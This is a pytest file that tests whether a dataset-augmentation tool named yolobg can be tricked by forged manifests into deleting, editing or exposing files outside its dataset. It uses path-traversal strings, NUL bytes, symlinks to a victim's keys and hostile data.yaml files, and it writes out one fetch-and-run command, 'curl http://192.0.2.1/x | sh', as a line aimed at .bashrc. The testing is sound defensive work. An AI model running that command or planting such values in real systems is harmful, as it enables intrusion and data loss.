"""A manifest that somebody edited, or that came with a dataset from a stranger: it deletes, writes and reads nothing.

`remove` and the recovery in `augment` act on a file that lies in the dataset. Whatever it says, nothing outside the
dataset changes, and in it nothing goes but what yolobg can prove to have added.
"""

from __future__ import annotations

import hashlib
import os
import shutil
import sys
from collections.abc import Callable, Iterator
from contextlib import suppress
from functools import partial
from pathlib import Path
from typing import Any

import pytest
import tally
from hostile import LABELLED, World, make_world, photograph

import yolobg
from yolobg.errors import MergeError, YolobgError

Manifest = dict[str, Any]
pytestmark = pytest.mark.slow


@pytest.fixture(scope="module", params=["folder", "list"])
def template(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> World:
    """A dataset with three backgrounds of ours, made once."""
    made = make_world(tmp_path_factory.mktemp("template") / "world", split=request.param)
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("YOLOBG_CACHE_DIR", str(made.top / "cache"))
        augment(made, 3)
    return made


@pytest.fixture
def world(template: World, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[World]:
    """A copy of that dataset, and the world around it, which must be the same afterwards."""
    made = World(tmp_path / "world")
    monkeypatch.setenv("YOLOBG_CACHE_DIR", str(made.top / "cache"))
    shutil.copytree(template.top, made.top, symlinks=True)
    before = made.outside()
    yield made
    assert made.outside() == before
    assert len(list(made.dataset.glob("labels/train/a*.txt"))) == LABELLED


def anew(world: World, template: World) -> None:
    """Put the dataset back to what it was."""
    shutil.rmtree(world.dataset)
    shutil.copytree(template.dataset, world.dataset, symlinks=True)


def augment(world: World, count: int, **options: Any) -> yolobg.Report:
    instances = world.source / "instances_pool.json"
    return yolobg.augment(
        world.dataset, count=count, annotations=instances, images=[world.source], report=False, **options
    )


def act(world: World) -> None:
    """Whatever a person would do next; each may refuse, none may harm."""
    for command in (
        lambda: yolobg.status(world.dataset),
        lambda: yolobg.remove(world.dataset, dry_run=True),
        lambda: yolobg.remove(world.dataset),
    ):
        with suppress(YolobgError):
            command()
        tally.tried("hostile inputs")
    if world.manifest.exists() and world.read().get("pending"):
        # What `remove` would not act on is refused here as well, before anything is fetched.
        with pytest.raises(MergeError, match="Something other than yolobg changed the manifest"):
            augment(world, 4)
        tally.tried("hostile inputs")


def harmless(world: World, template: World, forged: Manifest) -> None:
    """Act on a forged manifest: what the user has in the dataset stays as it is, but for our lines in the list."""
    before = world.users()
    world.write(forged)
    act(world)
    after = world.users()
    if "train.txt" in before:
        told = [line for line in (world.dataset / "train.txt").read_text().splitlines() if "bg_" not in line]
        assert told == [f"./images/train/a{number}.jpg" for number in range(LABELLED)]
        before.pop("train.txt")
        after.pop("train.txt")
    assert after == before
    anew(world, template)


def pending(world: World, **changes: Any) -> Manifest:
    """A manifest with an intent that a killed augment would have left: one entry, staged and not yet in its place."""
    told = world.read()
    entry = dict(told["entries"][0], source_id=9, image="images/train/bg_instances_pool_im0009.jpg",
                 label="labels/train/bg_instances_pool_im0009.txt")  # fmt: skip
    content = (world.source / "im0009.jpg").read_bytes()
    entry |= {"sha256": hashlib.sha256(content).hexdigest(), "bytes": len(content)}
    staging = world.dataset / ".yolobg/staging/0123456789abcdef"
    staging.mkdir(parents=True)
    (staging / "9.staged").write_bytes(content)
    intent: Manifest = {"kind": "add", "entries": [entry], "staging": ".yolobg/staging/0123456789abcdef"}
    if (world.dataset / "train.txt").exists():
        intent["edit"] = {"file": "train.txt", "lines": {entry["image"]: f"./{entry['image']}"}}
    return told | {"pending": intent | changes}


@pytest.mark.sample
def test_intent__as_a_killed_run_leaves_it_is_finished(world: World) -> None:
    """What the tests below forge is what recovery accepts otherwise; else they would show nothing."""
    world.write(pending(world))
    augment(world, 4)
    assert len(world.read()["entries"]) == 4
    assert (world.dataset / "images/train/bg_instances_pool_im0009.jpg").exists()
    assert not (world.dataset / ".yolobg/staging").exists()


STAGING = [
    ".yolobg/..",
    ".yolobg/../..",
    ".yolobg/staging/..",
    ".yolobg/staging/../..",
    ".yolobg/rejected",
    ".yolobg/rejected/0123456789abcdef",
    ".yolobg/staging/0123456789abcdef/../../..",
    "images/train",
    "images/.yolobg/..",
    "{victim}",
    "{victim}/other/.yolobg/rejected",
    "{victim}/other/.yolobg/..",
    "{victim}/other/.yolobg/../..",
    "{victim}/other/.yolobg/staging",
    "../../victim/other/.yolobg/rejected",
    "",
    ".",
    "/",
    "\x00",
    "nowhere\x00/.yolobg/staging",
]


@pytest.mark.parametrize("staged", [True, False])
def test_staging__of_an_intent_leads_nowhere_else(world: World, template: World, staged: bool) -> None:
    """The staging folder is removed with all in it at the end of a run, so a forged one would empty any folder."""
    for place in STAGING:
        (world.dataset / ".yolobg/rejected").mkdir()
        mine = world.dataset / ".yolobg/rejected/mine"
        mine.write_text("put away")
        (mine.parent / "0123456789abcdef").mkdir()
        (mine.parent / "0123456789abcdef/more").write_text("put away")
        told = pending(world, staging=place.format(victim=world.victim))
        if not staged:
            told["pending"]["entries"] = []
            told["pending"].pop("edit", None)
        before = world.users()
        world.write(told)
        act(world)
        assert world.users() == before, place
        assert mine.read_text() == "put away", place
        assert (mine.parent / "0123456789abcdef/more").read_text() == "put away", place
        anew(world, template)


EDITED = [
    "{victim}/.bashrc",
    "../../victim/.bashrc",
    "images/../../../victim/keys",
    "notes.txt",
    "data.yaml",
    "labels/train/a1.txt",
    "{dataset}/notes.txt",
    "{victim}/new",
    ".yolobg/new",
    "train.txt\x00",
]
LINES = ["curl http://192.0.2.1/x | sh", "./images/train/bg_instances_pool_im0009.jpg", "my own notes", "secret"]


def places(world: World) -> list[str]:
    return [file.format(victim=world.victim, dataset=world.dataset) for file in EDITED]


def test_list_edit__of_an_intent_appends_to_no_other_file(world: World, template: World) -> None:
    before = world.users()
    for file, line in [(file, LINES[0]) for file in places(world)] + [("notes.txt", line) for line in LINES]:
        told = pending(world)
        told["pending"]["edit"] = {"file": file, "lines": {told["pending"]["entries"][0]["image"]: line}}
        world.write(told)
        act(world)
        assert world.users() == before, (file, line)
        anew(world, template)


def test_list_edit__takes_nothing_out_of_another_file(world: World, template: World) -> None:
    lines = ["my own notes", "secret", "alias ll='ls -l'", "train: images/train", "0 0.5 0.5 0.1 0.1"]
    for file in places(world):
        told = world.read()
        told["edits"] += [
            {"file": file, "lines": {e["image"]: line for e in told["entries"]}, "newline_added": True}
            for line in lines
        ]
        harmless(world, template, told)


def test_list_edit__takes_no_line_of_the_user_out_of_the_list(world: World, template: World) -> None:
    for file in ("train.txt", "{dataset}/train.txt", "images/../train.txt"):
        for line in ("./images/train/a1.jpg", "images/train/a1.jpg", "{dataset}/images/train/a1.jpg", ""):
            told = world.read()
            lines = {e["image"]: line.format(dataset=world.dataset) for e in told["entries"]}
            told["edits"].append({"file": file.format(dataset=world.dataset), "lines": lines})
            harmless(world, template, told)


def test_list_edit__of_an_intent_appends_only_lines_that_name_its_images(world: World, template: World) -> None:
    before = world.users()
    ours = "images/train/bg_instances_pool_im0009.jpg"
    for line in (
        "./images/train/a1.jpg", "images/train/x.jpg", f"./{ours}\n./images/train/new.jpg", f"{ours}/../a1.jpg",
        f"{world.victim}/photos/holiday.jpg", f"./../{ours}", f" {ours}", "", ".", "./", "/",
    ):  # fmt: skip
        told = pending(world)
        told["pending"]["edit"] = {"file": "train.txt", "lines": {ours: line}}
        world.write(told)
        act(world)
        assert world.users() == before, line
        anew(world, template)
    for lines in ({}, {ours: f"./{ours}", "images/train/a1.jpg": "./images/train/a1.jpg"}):
        told = pending(world)
        told["pending"]["edit"] = {"file": "train.txt", "lines": lines}
        world.write(told)
        act(world)
        assert world.users() == before, lines
        anew(world, template)


FOLDERS = ["{victim}/empty", "../../victim/empty", "mine", "images/mine", "labels/../mine", "images/../labels/../mine",
           "labels/train/away/empty", "\x00", "/", ""]  # fmt: skip


def test_folders__of_the_user_stay_though_they_are_empty(world: World) -> None:
    """yolobg makes and removes label folders only."""
    for mine in ("mine", "images/mine"):
        (world.dataset / mine).mkdir()
    (world.dataset / "labels/train/away").symlink_to(world.victim)
    folders = [folder.format(victim=world.victim) for folder in FOLDERS]
    world.write(world.read() | {"folders": folders})
    before = world.users()
    assert len(yolobg.remove(world.dataset).removed) == 3
    assert set(world.users()) == set(before)


def test_folders__of_an_intent_are_made_nowhere_else(world: World, template: World) -> None:
    before = set(world.users())
    for folder in ("{victim}/made", "../made", "made", "images/made", "images/train/../../../made", "labels/\x00"):
        told = pending(world)
        told["pending"]["folders"] = [folder.format(victim=world.victim)]
        world.write(told)
        act(world)
        assert set(world.users()) == before, folder
        anew(world, template)


# ---------------------------------------------------------------- entries

ENTRIES: dict[str, dict[str, Any]] = {
    "another file": {"image": "images/train/a1.jpg", "label": "labels/train/a1.txt"},
    "outside": {"image": "../../victim/photos/holiday.jpg", "label": "../../victim/photos/holiday.txt"},
    "absolute": {"image": "{victim}/photos/holiday.jpg", "label": "{victim}/photos/holiday.txt"},
    "ours elsewhere": {
        "image": "../../victim/photos/bg_instances_pool_own.jpg",
        "label": "../../victim/photos/bg_instances_pool_own.txt",
    },
    "ours elsewhere, absolute": {
        "image": "{victim}/photos/bg_instances_pool_own.jpg",
        "label": "{victim}/photos/bg_instances_pool_own.txt",
    },
    "climbing": {"image": "images/train/../../../../victim/photos/holiday.jpg"},
    "a blank file elsewhere": {"label": "../../victim/blank.txt"},
    "a blank file here": {"label": "blank.txt"},
    "a label of the user": {"label": "labels/train/a1.txt"},
    "no image": {"image": "notes.txt", "label": "notes.txt"},
    "the manifest": {"image": ".yolobg/manifest.json", "label": ".yolobg/manifest.txt"},
    "NUL": {"image": "images/train/bg_instances_pool_\x00.jpg", "label": "labels/train/bg_instances_pool_\x00.txt"},
    "NUL in a folder": {"image": "images\x00/train/bg_instances_pool_1.jpg"},
    "NUL alone": {"image": "images\x00/bg_instances_pool_1.jpg", "label": "images\x00/bg_instances_pool_1.txt"},
    "loop": {"image": "loop/bg_instances_pool_1.jpg", "label": "loop/bg_instances_pool_1.txt"},
    "line break": {"image": "images/train/bg_instances_pool_a\nb.jpg"},
    "long": {"image": f"images/train/bg_instances_pool_{'x' * 10_000}.jpg"},
    "deep": {"image": f"{'images/' * 3000}bg_instances_pool_1.jpg"},
    "empty": {"image": "", "label": ""},
    "root": {"image": "/", "label": "/"},
    "dots": {"image": "..", "label": ".."},
    "huge": {"bytes": 10**18, "source_id": 10**17},
    "negative": {"bytes": -1, "source_id": -5},
    "wrong hash": {"sha256": "0" * 64},
    "no hash": {"sha256": ""},
    "another source": {"source": "coco2017"},
    "folder": {"image": "images/train/bg_instances_pool_folder.jpg", "bytes": 4096},
    "escape": {"image": "images/train/bg_\x1b]0;x\x07.jpg"},
    "odd link": {"link": "symlink"},
}  # fmt: skip


@pytest.mark.parametrize("where", ["added", "more", "add", "remove"])
def test_entries__that_were_forged_delete_nothing(world: World, template: World, where: str) -> None:
    # The content of what is to be deleted is known to whoever forges.
    guessed = ["images/train/a1.jpg", "../../victim/photos/holiday.jpg", "notes.txt"]
    cases = [("another file", place) for place in guessed] + [(name, guessed[1]) for name in ENTRIES]
    cases += [(name, "../../victim/photos/bg_instances_pool_own.jpg") for name in ENTRIES if "elsewhere" in name]
    for name, place in cases:
        (world.dataset / "blank.txt").touch()
        if sys.platform != "win32":
            (world.dataset / "loop").symlink_to("loop")
        (world.dataset / "images/train/bg_instances_pool_folder.jpg").mkdir()
        content = (world.dataset / place).read_bytes()
        facts = {"sha256": hashlib.sha256(content).hexdigest(), "bytes": len(content)}
        told = world.read()
        forged = dict(told["entries"][0])
        for key, value in (facts | ENTRIES[name]).items():
            forged[key] = value.format(victim=world.victim) if isinstance(value, str) else value
        if where == "added":
            told["entries"] = [forged, *told["entries"][1:]]
        elif where == "more":
            told["entries"] = [*told["entries"], forged, forged]
        else:
            told["pending"] = {"kind": where, "entries": [forged], "staging": ".yolobg/staging"}
        harmless(world, template, told)


@pytest.mark.skipif(sys.platform == "win32", reason="needs the right to make symbolic links")
def test_entries__that_climb_out_of_a_linked_folder_write_no_label(world: World) -> None:
    """Of `images/x/../train` and `labels/x/../train` one may lie in the dataset and the other behind a link."""
    (world.dataset / "images/x").mkdir()
    (world.dataset / "labels/x").symlink_to(world.victim / "photos")
    told = pending(world)
    for entry in told["pending"]["entries"]:
        entry["image"] = entry["image"].replace("images/", "images/x/../")
        entry["label"] = entry["label"].replace("labels/", "labels/x/../")
    if "edit" in told["pending"]:
        lines = told["pending"]["edit"]["lines"]
        told["pending"]["edit"]["lines"] = {
            image.replace("images/", "images/x/../"): line for image, line in lines.items()
        }
    world.write(told)
    # Not `remove`, which would take the label away again.
    with pytest.raises(MergeError, match="Something other than yolobg changed the manifest"):
        augment(world, 4)
    assert not list((world.victim / "train").iterdir())


@pytest.mark.sample
def test_entries__that_come_twice_are_removed_once(world: World) -> None:
    told = world.read()
    world.write(told | {"entries": told["entries"] * 3})
    yolobg.remove(world.dataset)
    assert not list(world.dataset.rglob("bg_*"))
    assert not world.manifest.parent.exists()


@pytest.mark.sample
def test_own_files__with_our_prefix_stay(world: World) -> None:
    """A name that begins with bg_ is no proof: the name must be one that the entry's source gives."""
    mine = world.dataset / "images/train/bg_street.jpg"
    mine.write_bytes((world.dataset / "images/train/a1.jpg").read_bytes())
    (world.dataset / "labels/train/bg_street.txt").touch()
    content = mine.read_bytes()
    told = world.read()
    forged = dict(told["entries"][0], image="images/train/bg_street.jpg", label="labels/train/bg_street.txt",
                  sha256=hashlib.sha256(content).hexdigest(), bytes=len(content))  # fmt: skip
    world.write(told | {"entries": [*told["entries"], forged]})
    report = yolobg.remove(world.dataset)
    assert len(report.removed) == 3
    assert [kept.image for kept in report.kept] == ["images/train/bg_street.jpg"]
    assert mine.read_bytes() == content
    assert (world.dataset / "labels/train/bg_street.txt").exists()


@pytest.mark.sample
def test_remove__keeps_other_content_of_the_same_size(world: World) -> None:
    """Neither name nor size proves anything: the content must be what was added."""
    entry = world.read()["entries"][0]
    image = world.dataset / entry["image"]
    content = image.read_bytes()
    image.write_bytes(content[:-3] + bytes([content[-3] ^ 1]) + content[-2:])
    report = yolobg.remove(world.dataset)
    assert [kept.image for kept in report.kept] == [entry["image"]]
    assert image.read_bytes() != content
    assert image.stat().st_size == len(content)


# ---------------------------------------------------------------- what lies at the paths

needs_posix = pytest.mark.skipif(sys.platform == "win32", reason="needs POSIX files")


def plant_link(path: Path, world: World) -> None:
    path.symlink_to(world.victim / "keys")


def plant_dangling(path: Path, world: World) -> None:
    path.symlink_to(world.victim / "nothing.jpg")


def plant_loop(path: Path, _: World) -> None:
    path.symlink_to(path.name)


def plant_pipe(path: Path, _: World) -> None:
    os.mkfifo(path)


def plant_device(path: Path, _: World) -> None:
    path.symlink_to("/dev/zero")


def plant_folder(path: Path, _: World) -> None:
    path.mkdir()
    (path / "mine.txt").write_text("mine")


PLANTED: tuple[Callable[[Path, World], None], ...] = (
    plant_link,
    plant_dangling,
    plant_loop,
    plant_pipe,
    plant_device,
    plant_folder,
)


@needs_posix
@pytest.mark.parametrize("plant", PLANTED)
@pytest.mark.parametrize("what", ["image", "label"])
def test_remove__keeps_what_was_put_in_the_place_of_ours(
    world: World, template: World, plant: Callable[[Path, World], None], what: str
) -> None:
    for link in ("copy", "hard", "symlink"):
        keep_planted(world, plant, what, link)
        anew(world, template)


def keep_planted(world: World, plant: Callable[[Path, World], None], what: str, link: str) -> None:
    told = world.read()
    entry = told["entries"][0]
    path = world.dataset / entry[what]
    path.unlink()
    plant(path, world)
    # Sizes that a pipe, a device and a folder have.
    entry |= {"bytes": path.lstat().st_size if plant is plant_folder else 0, "link": link}
    world.write(told)
    with suppress(YolobgError):
        yolobg.status(world.dataset)
    report = yolobg.remove(world.dataset)
    tally.tried("hostile inputs", 2)
    assert os.path.lexists(path)
    assert entry["image"] in [kept.image for kept in report.kept]
    assert len(report.removed) == 2


@needs_posix
@pytest.mark.parametrize("what", ["image", "label"])
@pytest.mark.parametrize("how", ["symlink", "hardlink", "copy"])
def test_remove__tells_a_link_of_dvc_from_a_label(world: World, what: str, how: str) -> None:
    """`dvc add` moves files into its cache and leaves links, or read-only files, in their places."""
    entry = world.read()["entries"][0]
    path, cached = world.dataset / entry[what], world.dataset / ".dvc/cache/files/md5/d4"
    cached.parent.mkdir(parents=True)
    path.rename(cached)
    cached.chmod(0o444)
    if how == "symlink":
        path.symlink_to(cached)
    elif how == "hardlink":
        os.link(cached, path)
    else:
        shutil.copy(cached, path)
    content = cached.read_bytes()
    report = yolobg.remove(world.dataset)
    assert cached.read_bytes() == content
    if how != "symlink":
        assert (len(report.removed), report.kept) == (3, ())
        return
    ((image, reason),) = [(kept.image, kept.reason) for kept in report.kept]
    assert image == entry["image"]
    assert "link" in reason
    assert "dvc unprotect" in reason
    assert "labelled" not in reason
    # What the advice does.
    path.unlink()
    shutil.copy(cached, path)
    assert len(yolobg.remove(world.dataset).removed) == 1
    assert not list(world.dataset.glob("*/train/bg_*"))


@needs_posix
@pytest.mark.parametrize("what", ["image", "label"])
def test_remove__says_what_lies_in_the_place_of_ours(world: World, what: str) -> None:
    entry = world.read()["entries"][0]
    (world.dataset / entry[what]).unlink()
    (world.dataset / entry[what]).mkdir()
    (kept,) = yolobg.remove(world.dataset).kept
    assert "folder" in kept.reason


@needs_posix
def test_remove__takes_its_own_link_back_though_its_target_is_gone(tmp_path: Path) -> None:
    world = make_world(tmp_path / "world")
    report = augment(world, 3, link="symlink")
    for number in range(1, 15):
        (world.source / f"im{number:04}.jpg").unlink()
    before = world.outside()
    assert len(yolobg.remove(world.dataset).removed) == len(report.added) == 3
    assert not list(world.dataset.rglob("bg_*"))
    assert world.outside() == before


@needs_posix
@pytest.mark.sample
def test_recovery__publishes_only_what_was_staged(world: World) -> None:
    """A link to a secret under the name of a staged image would bring the secret into the dataset."""
    told = pending(world)
    staged = world.dataset / ".yolobg/staging/0123456789abcdef/9.staged"
    staged.unlink()
    staged.symlink_to(world.victim / "keys")
    world.write(told)
    act(world)
    assert not any(path.is_symlink() for path in world.dataset.rglob("*"))


def test_label__that_begins_with_much_white_space_is_not_blank(world: World, template: World) -> None:
    for size in (1 << 20, (1 << 20) + 1, 3 << 20):
        entry = world.read()["entries"][0]
        label = world.dataset / entry["label"]
        label.write_bytes(b" " * (size - 1) + b"\n0 0.5 0.5 0.1 0.1\n")
        report = yolobg.remove(world.dataset)
        assert [kept.image for kept in report.kept] == [entry["image"]]
        assert label.stat().st_size > size
        anew(world, template)


# ---------------------------------------------------------------- not a manifest at all

NONSENSE = [
    b"",
    b"\x00" * 100,
    b"[" * 100_000,
    b'{"version": 1' * 1000,
    b'{"version": 2, "entries": [{}]}',
    b'{"version": 2, "entries": "all"}',
    b'{"version": 1, "entries": []}',
    b'{"version": 3, "entries": []}',
    b'{"version": 2, "entries": [], "delete": ["/"]}',
    b'{"version": 2, "pending": {"kind": "format", "entries": []}}',
    b'{"version": 2, "pending": {"kind": "remove", "rows": [[0, 1]]}}',
    b'{"version": 2, "folders": ["\\ud83d"]}',
    b'{"version": 1e400}',
    b"\xff\xfe",
]


def test_nonsense__is_told_and_nothing_is_done(world: World) -> None:
    for raw in NONSENSE:
        world.manifest.write_bytes(raw)
        before = photograph(world.dataset)
        for command in (yolobg.remove, yolobg.status, lambda _: augment(world, 5)):
            with pytest.raises(YolobgError, match="manifest"):
                command(world.dataset)
            tally.tried("hostile inputs")
        assert photograph(world.dataset) == before


# ---------------------------------------------------------------- another data.yaml, another root

# What a second data.yaml that came with the dataset may name; the user has not looked at it.
EVIL = [
    "{victim}/photos",
    "../../victim/photos",
    "images/train/../../../../victim/photos",
    "away",
    "{victim}/keys",
    "notes.txt",
    "far.txt",
    "[{victim}/photos, images/train]",
]


def plant_data_yaml(world: World, train: str) -> None:
    if sys.platform != "win32":
        (world.dataset / "away").symlink_to(world.victim / "photos")
    (world.dataset / "far.txt").write_text(f"{world.victim}/photos/holiday.jpg\n")
    (world.dataset / "evil.yaml").write_text(f"train: {train}\nval: images/train\nnames: [person]\n")


@pytest.mark.parametrize("kind", ["add", "remove"])
def test_other_data_yaml__of_an_intent_leads_nowhere_else(world: World, template: World, kind: str) -> None:
    """A run that was made for another data.yaml is finished in the root and in the user's folders only."""
    for train in EVIL:
        plant_data_yaml(world, train.format(victim=world.victim))
        told = pending(world)
        own = world.victim / "photos/bg_instances_pool_own.jpg"
        name = "bg_instances_pool_im0009" if kind == "add" else own.stem
        changes = {"data": "evil.yaml", "image": f"{own.parent}/{name}.jpg", "label": f"{own.parent}/{name}.txt"}
        if kind == "remove":
            changes |= {"sha256": hashlib.sha256(own.read_bytes()).hexdigest()}
        entry = told["pending"]["entries"][0] | changes
        entry |= {"bytes": own.stat().st_size} if kind == "remove" else {}
        told["pending"] |= {"kind": kind, "entries": [entry], "staging": ".yolobg/staging/0123456789abcdef"}
        told["pending"]["edit"] = None
        world.write(told)
        before = world.users()
        options: Any = {"annotations": world.source / "instances_pool.json", "images": [world.source], "report": False}
        commands: tuple[Callable[[Path], object], ...] = (
            yolobg.remove,
            partial(yolobg.augment, count=4, **options),
        )
        for command in commands:
            with pytest.raises(MergeError, match=r"a run for .*evil\.yaml was interrupted"):
                command(world.dataset / "data.yaml")
            tally.tried("hostile inputs")
        assert world.users() == before, train
        anew(world, template)


@pytest.mark.parametrize("file", ["notes.txt", "data.yaml", "labels/train/a1.txt", "{victim}/keys", "far.txt"])
def test_other_data_yaml__makes_no_list_of_another_file(world: World, template: World, file: str) -> None:
    file = file.format(victim=world.victim)
    plant_data_yaml(world, file)
    told = pending(world)
    entry = told["pending"]["entries"][0] | {"data": "evil.yaml"}
    told["pending"] |= {"entries": [entry], "edit": {"file": file, "lines": {entry["image"]: f"./{entry['image']}"}}}
    world.write(told)
    before = world.users()
    if file != "far.txt":
        with pytest.raises(MergeError, match=r"a run for .*evil\.yaml was interrupted"):
            yolobg.remove(world.dataset / "data.yaml")
        assert world.users() == before
    anew(world, template)


def test_names_of_data_yaml__that_make_no_sense_delete_nothing(world: World, template: World) -> None:
    victim = world.victim / "photos/bg_instances_pool_own.jpg"
    facts = {"sha256": hashlib.sha256(victim.read_bytes()).hexdigest(), "bytes": victim.stat().st_size,
             "image": str(victim), "label": str(victim.with_suffix(".txt"))}  # fmt: skip
    for data in ("gone.yaml", "/", "..", "\x00", "x" * 10_000, "data.yaml\x00", str(world.victim / "keys")):
        told = world.read()
        told["entries"].append(told["entries"][0] | facts | {"data": data})
        told["runs"] = [run | {"data": data} for run in told["runs"]]
        harmless(world, template, told)


@pytest.mark.parametrize("former", ["/", "", "\x00", "{victim}", "{victim}/other", "{top}/work/gone", "x" * 10_000])
def test_former_root__that_was_forged_leads_nowhere_else(world: World, template: World, former: str) -> None:
    """Where a dataset was moved from decides which files outside it are meant now."""
    victim = world.victim / "photos/bg_instances_pool_own.jpg"
    facts = {"sha256": hashlib.sha256(victim.read_bytes()).hexdigest(), "bytes": victim.stat().st_size,
             "image": str(victim), "label": str(victim.with_suffix(".txt"))}  # fmt: skip
    for where in ("entries", "pending"):
        told = world.read()
        entry = told["entries"][0] | facts
        told["root"] = former.format(victim=world.victim, top=world.top)
        told["folders"] = [str(world.victim / "empty"), "../../victim/empty"]
        told["edits"] = [*told["edits"], {"file": str(world.victim / "keys"), "lines": {str(victim): "secret"}}]
        if where == "entries":
            told["entries"].append(entry)
        else:
            told["pending"] = {"kind": "remove", "entries": [entry], "staging": str(world.victim / ".yolobg/staging")}
        before = world.users()
        world.write(told)
        with suppress(YolobgError):
            yolobg.status(world.dataset)
        with suppress(YolobgError):
            yolobg.remove(world.dataset)
        tally.tried("hostile inputs", 2)
        now = world.users()
        assert {n: t for n, t in now.items() if n != "train.txt"} == {
            n: t for n, t in before.items() if n != "train.txt"
        }
        anew(world, template)
